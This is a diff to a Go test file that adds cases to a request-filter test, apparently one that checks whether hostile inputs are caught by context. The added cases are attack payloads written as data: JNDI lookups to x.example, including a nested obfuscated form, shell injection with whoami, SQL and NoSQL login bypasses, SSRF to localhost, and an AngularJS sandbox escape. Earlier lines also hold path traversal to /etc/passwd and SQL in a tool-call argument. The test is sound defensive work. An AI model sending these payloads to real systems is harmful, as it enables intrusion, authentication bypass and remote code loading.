@@ -69,6 +69,14 @@ func TestServeJudgesValuesByContext(t *testing.T) {
 		{name: "traversal in a file parameter", method: "GET", target: "/download?file=" + url.QueryEscape("../../../../etc/passwd")},
 		{name: "sql in a chat tool-call argument", method: "POST", target: "/v1/chat/completions", ct: "application/json", body: `{"model":"gpt-4o-mini","messages":[{"role":"user","content":"hi"},{"role":"assistant","content":null,"tool_calls":[{"id":"t1","type":"function","function":{"name":"lookup","arguments":"{\"id\":\"1' OR '1'='1' --\"}"}}]}]}`},
 		{name: "jndi in a header", method: "GET", target: "/", header: map[string]string{"X-Api-Version": "${jndi:ldap://x.example/a}"}},
+		{name: "jndi in the request id", method: "GET", target: "/", header: map[string]string{"X-Request-Id": "${jndi:rmi://x.example:1099/a}"}},
+		{name: "nested jndi lookup in a header", method: "GET", target: "/", header: map[string]string{"X-Trace": "${${lower:jndi}:${lower:rmi}://x.example/a}"}},
+		{name: "shell after a closed quote in a form", method: "POST", target: "/api/lookup", ct: "application/x-www-form-urlencoded", body: "name=" + url.QueryEscape("' & whoami")},
+		{name: "sql comment breakout", method: "POST", target: "/login", ct: "application/x-www-form-urlencoded", body: "username=" + url.QueryEscape("admin'/*") + "&password=x"},
+		{name: "fetch url to loopback", method: "POST", target: "/api/preview", ct: "application/json", body: `{"url":"http://localhost:80/admin"}`},
+		{name: "angular sandbox escape", method: "GET", target: "/profile?name=" + url.QueryEscape("{{$on.constructor('alert(1)')()}}")},
+		{name: "nosql operator login", method: "POST", target: "/api/login", ct: "application/json", body: `{"username":{"$gt":""},"password":{"$gt":""}}`},
+		{name: "nosql where", method: "POST", target: "/api/users/search", ct: "application/json", body: `{"$where":"sleep(1000)"}`},
 	}
 	send := func(i int, c contextCase) (int, string) {
 		t.Helper()
